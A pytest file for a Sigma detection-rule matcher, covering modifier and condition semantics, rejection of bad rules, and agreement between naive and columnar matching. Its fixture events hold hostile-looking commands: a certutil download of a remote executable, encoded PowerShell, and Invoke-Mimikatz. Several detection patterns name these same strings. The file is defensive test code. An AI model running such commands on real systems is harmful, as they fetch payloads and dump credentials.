"""Sigma semantics per modifier and condition form, bad rules, Naive vs columnar agreement."""

from __future__ import annotations

import textwrap
from collections.abc import Mapping, Sequence
from typing import Any

import polars as pl
import pytest

from fleetops.core.ocsf import EventBatch, events_from_records
from fleetops.security.soc.sigma import NaiveMatcher, RuleSet, SigmaRuleError, techniques_from_tags

EVENTS: list[dict[str, str | None]] = [
    {
        "Image": r"C:\Windows\System32\cmd.exe",
        "CommandLine": "cmd.exe /c whoami",
        "EventID": "1",
        "Count": "5",
        "User": "CORP\\alice",
        "Parent": "cmd",
    },
    {
        "Image": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "CommandLine": "powershell -enc SQBFAFgA",
        "EventID": "1",
        "Count": "50",
        "User": None,
        "Parent": "x",
    },
    {
        "Image": r"C:\Tools\certutil.exe",
        "CommandLine": "certutil -urlcache -f http://10.1.2.3/a.exe",
        "EventID": "4688",
        "Count": "abc",
        "User": "",
        "Parent": "C:",
    },
    {
        "Image": None,
        "CommandLine": "Invoke-Mimikatz",
        "EventID": "1",
        "Count": None,
        "User": "root",
        "Parent": None,
    },
]


def batch(
    rows: Sequence[Mapping[str, str | None]] = EVENTS, *, category: str = "process_creation"
) -> EventBatch:
    events = events_from_records(
        [
            {
                "message": f"event {i}",
                "raw": f"raw {r.get('CommandLine')}",
                "logsource_product": "windows",
                "logsource_category": category,
                "host": f"h{i}",
                "record_index": i + 1,
                "source_file": "t.json",
            }
            for i, r in enumerate(rows)
        ]
    )
    names = sorted({k for r in rows for k in r})
    fields = pl.DataFrame(
        {n: [r.get(n) for r in rows] for n in names}, schema=dict.fromkeys(names, pl.String)
    )
    return EventBatch(events, fields)


def rule(
    detection: str,
    *,
    logsource: str = "product: windows\n    category: process_creation",
    extra: str = "",
) -> str:
    head = (
        "title: Test rule\n"
        "id: 11111111-2222-3333-4444-555555555555\n"
        "status: test\n"
        "level: high\n"
        "tags:\n"
        "    - attack.t1059.001\n"
        "    - attack.execution\n"
        "logsource:\n"
        f"    {logsource}\n"
        "detection:\n"
    )
    return head + textwrap.indent(textwrap.dedent(detection), "    ") + extra


def hits(detection: str, rows: Sequence[Mapping[str, str | None]] = EVENTS, **kw: Any) -> list[int]:
    rules = RuleSet.from_yaml(rule(detection, **kw))
    b = batch(rows)
    fast = rules.match_rows(b)
    slow = NaiveMatcher(rules).match_rows(b)
    assert fast == slow
    return fast.get(0, [])


@pytest.mark.parametrize(
    ("detection", "expected"),
    [
        ("sel:\n    EventID: 4688\ncondition: sel", [2]),
        (
            "sel:\n    Image: 'c:\\windows\\system32\\cmd.exe'\ncondition: sel",
            [0],
        ),  # case-insensitive
        ("sel:\n    Image|cased: 'c:\\windows\\system32\\cmd.exe'\ncondition: sel", []),
        ("sel:\n    Image|cased: 'C:\\Windows\\System32\\cmd.exe'\ncondition: sel", [0]),
        ("sel:\n    Image: '*\\power?hell.exe'\ncondition: sel", [1]),
        ("sel:\n    Image: 'C:*cmd.*'\ncondition: sel", [0]),
        (
            "sel:\n    Image: 'C:\\Windows\\\\*'\ncondition: sel",
            [0, 1],
        ),  # escaped backslash, then *
        ("sel:\n    CommandLine|contains: 'WHOAMI'\ncondition: sel", [0]),
        (
            "sel:\n    CommandLine|contains:\n        - urlcache\n        - mimikatz\ncondition: sel",
            [2, 3],
        ),
        (
            "sel:\n    CommandLine|contains|all:\n        - certutil\n        - '-f'\ncondition: sel",
            [2],
        ),
        (
            "sel:\n    CommandLine|contains|all:\n        - certutil\n        - whoami\ncondition: sel",
            [],
        ),
        ("sel:\n    Image|startswith: 'c:\\tools'\ncondition: sel", [2]),
        (
            "sel:\n    Image|endswith:\n        - '\\cmd.exe'\n        - '\\certutil.exe'\ncondition: sel",
            [0, 2],
        ),
        ("sel:\n    CommandLine|re: '^powershell\\s+-enc'\ncondition: sel", [1]),
        ("sel:\n    CommandLine|re: '^POWERSHELL'\ncondition: sel", []),
        ("sel:\n    CommandLine|re|i: '^POWERSHELL'\ncondition: sel", [1]),
        ("sel:\n    CommandLine|base64: 'IEX'\ncondition: sel", []),
        ("sel:\n    CommandLine|base64offset|contains: 'IEX'\ncondition: sel", []),
        ("sel:\n    CommandLine|windash|contains: ' -urlcache '\ncondition: sel", [2]),
        ("sel:\n    CommandLine|windash|contains: ' /urlcache '\ncondition: sel", [2]),
        ("sel:\n    CommandLine|cidr: '10.0.0.0/8'\ncondition: sel", []),
        ("sel:\n    User|exists: true\ncondition: sel", [0, 2, 3]),
        ("sel:\n    User|exists: false\ncondition: sel", [1]),
        ("sel:\n    User: null\ncondition: sel", [1]),
        ("sel:\n    User: ''\ncondition: sel", [2]),
        ("sel:\n    Count|gt: 10\ncondition: sel", [1]),
        ("sel:\n    Count|lte: 5\ncondition: sel", [0]),
        ("sel:\n    Count|gte: 5\n    Count|lt: 50\ncondition: sel", [0]),
        ("sel:\n    Parent|fieldref: CommandLine\ncondition: sel", []),
        ("sel:\n    CommandLine|fieldref|startswith: Parent\ncondition: sel", [0]),
        (
            "sel:\n    Image|endswith: '\\cmd.exe'\nfilter:\n    User: 'CORP\\alice'\ncondition: sel and not filter",
            [],
        ),
        (
            "a:\n    EventID: 1\nb:\n    User: root\nc:\n    Image|contains: power\ncondition: a and (b or c)",
            [1, 3],
        ),
        ("sel_a:\n    EventID: 4688\nsel_b:\n    User: root\ncondition: 1 of sel_*", [2, 3]),
        ("sel_a:\n    EventID: 1\nsel_b:\n    User: root\ncondition: all of sel_*", [3]),
        (
            "sel_a:\n    EventID: 1\nsel_b:\n    CommandLine|contains: mimi\ncondition: all of them",
            [3],
        ),
        ("sel:\n    EventID: 1\ncondition: not sel", [2]),
        (
            "sel:\n    - EventID: 4688\n    - User: root\ncondition: sel",
            [2, 3],
        ),  # list of maps = OR
        ("keywords:\n    - 'mimikatz'\n    - 'nothing'\ncondition: keywords", [3]),  # raw text
        ("keywords:\n    '|all':\n        - 'raw'\n        - 'whoami'\ncondition: keywords", [0]),
        ("sel:\n    NoSuchField: x\ncondition: not sel", [0, 1, 2, 3]),
    ],
)
def test_semantics(detection: str, expected: list[int]) -> None:
    assert hits(detection) == expected


def test_base64_modifiers_match_encoded_text() -> None:
    rows = [
        {"CommandLine": "powershell -enc SUVYIChOZXctT2JqZWN0"},
        {"CommandLine": "x aGVsbG8gd29ybGQ= y"},
    ]
    # base64offset finds the text encoded at any byte offset; base64 alone is the whole value
    assert hits(
        "sel:\n    CommandLine|base64offset|contains: 'IEX (New'\ncondition: sel", rows
    ) == [0]
    assert hits("sel:\n    CommandLine|base64|contains: 'hello world'\ncondition: sel", rows) == [1]


def test_cidr_ipv4_and_ipv6() -> None:
    rows = [{"ip": "10.1.2.3"}, {"ip": "192.168.1.200"}, {"ip": "fe80::1"}, {"ip": "8.8.8.8"}]
    assert hits(
        "sel:\n    ip|cidr:\n        - 10.0.0.0/8\n        - 192.168.1.128/25\n        - fe80::/10\ncondition: sel",
        rows,
    ) == [0, 1, 2]


def test_logsource_selects_events() -> None:
    rules = RuleSet.from_yaml(
        rule(
            "sel:\n    EventID: 1\ncondition: sel",
            logsource="product: windows\n    category: image_load",
        )
    )
    assert rules.match_rows(batch()) == {}
    linux = RuleSet.from_yaml(
        rule("sel:\n    EventID: 1\ncondition: sel", logsource="product: linux")
    )
    assert linux.match_rows(batch()) == {}
    any_windows = RuleSet.from_yaml(
        rule("sel:\n    EventID: 1\ncondition: sel", logsource="product: windows")
    )
    assert any_windows.match_rows(batch()) == {0: [0, 1, 3]}


def test_registry_event_covers_registry_set() -> None:
    rules = RuleSet.from_yaml(
        rule(
            "sel:\n    TargetObject|endswith: '\\Run\\x'\ncondition: sel",
            logsource="product: windows\n    category: registry_event",
        )
    )
    b = batch([{"TargetObject": "HKLM\\Software\\Run\\x"}], category="registry_set")
    assert rules.match_rows(b) == {0: [0]}


def test_ocsf_columns_are_the_fallback_field_names() -> None:
    rules = RuleSet.from_yaml(rule("sel:\n    host: h2\ncondition: sel"))
    assert rules.match_rows(batch()) == {0: [2]}


def test_findings_carry_rule_event_and_evidence() -> None:
    rules = RuleSet.from_yaml(
        rule(
            "sel:\n    CommandLine|contains: whoami\ncondition: sel",
            extra="\nfalsepositives: [x]\n",
        ).replace("- attack.execution", "- attack.execution\n    - atm.atm-t0012")
    )
    findings = rules.evaluate(batch())
    assert findings.height == 1
    row = findings.row(0, named=True)
    assert row["source"] == "sigma"
    assert row["rule_id"] == "11111111-2222-3333-4444-555555555555"
    assert row["severity_id"] == 4
    assert row["techniques"] == ["T1059.001", "ATM-T0012"]
    assert row["host"] == "h0"
    assert row["record_index"] == 1
    assert '"CommandLine":"cmd.exe /c whoami"' in row["evidence"]


def test_techniques_from_tags() -> None:
    assert techniques_from_tags(
        [
            "attack.t1003.001",
            "attack.credential-access",
            "attack.t0836",
            "atm.atm-t0012",
            "car.2016-04-005",
        ]
    ) == (
        "T1003.001",
        "T0836",
        "ATM-T0012",
    )


def test_bad_modifier_names_rule_and_field() -> None:
    with pytest.raises(SigmaRuleError) as err:
        RuleSet.from_yaml(rule("sel:\n    CommandLine|contians: x\ncondition: sel"))
    message = str(err.value)
    assert "Test rule" in message and "11111111-2222-3333-4444-555555555555" in message
    assert "CommandLine" in message


def test_bad_condition_and_regex_are_refused_with_reason() -> None:
    loose = RuleSet.from_yaml(rule("sel:\n    Image: x\ncondition: sel and missing"), strict=False)
    assert loose.rules == [] and "missing" in loose.refused[0].reason
    bad_re = RuleSet.from_yaml(
        rule("sel:\n    Image|re: '(unclosed'\ncondition: sel"), strict=False
    )
    assert bad_re.rules == [] and "Test rule" in bad_re.refused[0].reason
    placeholder = RuleSet.from_yaml(
        rule("sel:\n    Image|expand: '%admins%'\ncondition: sel"), strict=False
    )
    assert placeholder.rules == [] and "Image" in placeholder.refused[0].reason


def test_correlation_rules_are_refused_not_crashed(tmp_path: Any) -> None:
    path = tmp_path / "corr.yml"
    path.write_text(
        rule("sel:\n    EventID: 1\ncondition: sel").replace(
            "title: Test rule", "title: Base\nname: base"
        )
        + "\n---\ntitle: Many\nid: 22222222-2222-3333-4444-555555555555\ncorrelation:\n    type: event_count\n"
        "    rules: [base]\n    group-by: [User]\n    timespan: 5m\n    condition:\n        gte: 10\nlevel: high\n"
    )
    rules = RuleSet.load([path])
    assert len(rules.rules) == 1
    assert len(rules.refused) == 1 and "not supported" in rules.refused[0].reason


def test_starter_pack_loads_with_tags() -> None:
    from pathlib import Path

    import fleetops.security.soc.sigma as sigma_pkg

    pack = Path(sigma_pkg.__file__).resolve().parents[1] / "rules"
    rules = RuleSet.load([pack])
    assert rules.refused == []
    assert len(rules.rules) >= 20
    for r in rules.rules:
        assert r.level and any(t.startswith("T") for t in r.techniques), r.title
        if r.service in ("ids", "dtc", "ota"):
            assert any(t.startswith("ATM-") for t in r.techniques), r.title


def test_naive_and_columnar_agree_on_random_events() -> None:
    import random

    rng = random.Random(7)
    words = ["cmd", "powershell", "-enc", "whoami", "CERTUTIL", "/c", "x", "Mimikatz", "10.1.1.1"]
    rows: list[dict[str, str | None]] = [
        {
            "Image": rng.choice([None, "C:\\a\\cmd.exe", "C:\\b\\PowerShell.exe", "x"]),
            "CommandLine": " ".join(rng.choice(words) for _ in range(rng.randint(0, 5))),
            "EventID": rng.choice(["1", "4688", None]),
            "Count": rng.choice(["1", "20", "x", None]),
        }
        for _ in range(400)
    ]
    text = rule(
        "a:\n    Image|endswith: ['\\cmd.exe', '\\powershell.exe']\n"
        "b:\n    CommandLine|contains|all: ['-enc', 'power']\n"
        "c:\n    CommandLine|re|i: 'who.mi'\n"
        "d:\n    Count|gt: 10\n"
        "e:\n    CommandLine: '*mimi*z*'\n"
        "condition: (a and not c) or (b and d) or e or 1 of c*"
    )
    rules = RuleSet.from_yaml(text)
    b = batch(rows)
    assert rules.match_rows(b) == NaiveMatcher(rules).match_rows(b)
    assert rules.match_rows(b)  # the rule does fire on some of them
